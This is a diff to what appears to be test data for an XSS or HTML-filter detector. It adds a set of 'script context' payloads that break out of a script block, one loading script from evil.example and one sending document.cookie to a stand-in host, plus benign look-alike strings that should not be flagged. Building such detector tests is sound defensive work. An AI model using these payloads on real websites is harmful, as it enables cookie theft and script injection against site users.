@@ -59,6 +59,9 @@ FAMILIES = {
                      '<A HREF="http://www.gohttp://www.google.com/ogle.com/">XSS</A>',
                      '<a href="http&#58;//www&#46;evil&#46;example/">x</a>', '<img src="http://0x42.0x0000066.0x7.0x93/x.png">',
                      '<a href="http://bank.example@evil.example/login">log in</a>'],
+    # written into the page's script block, then closing it
+    "script context": ["$,_=1}}).$=alert</script>", 'src="http://evil.example/x.js"></script>',
+                       "x=document.cookie;new Image().src='//e.x/?'+x</script>", "src=//e.x/a.js></script>"],
 }
 
 LOOK_ALIKES = [
@@ -74,6 +77,8 @@ LOOK_ALIKES = [
     '<a href="https://web.archive.org/web/2020/https://example.com/">archived</a>',
     '<a href="https://medium.com/@user/post">post</a>', '<img src="https://cdn.example/x.png?a=1&#38;b=2">',
     '<a href="mailto:someone@example.com">mail</a>', '<a href="http://66.102.7.147/">by IP</a>',
+    "see the </script> tag", "Use alert() inside </script>", 'type="text/javascript"></script>',
+    "close it with ); </script>",
 ]
 
 
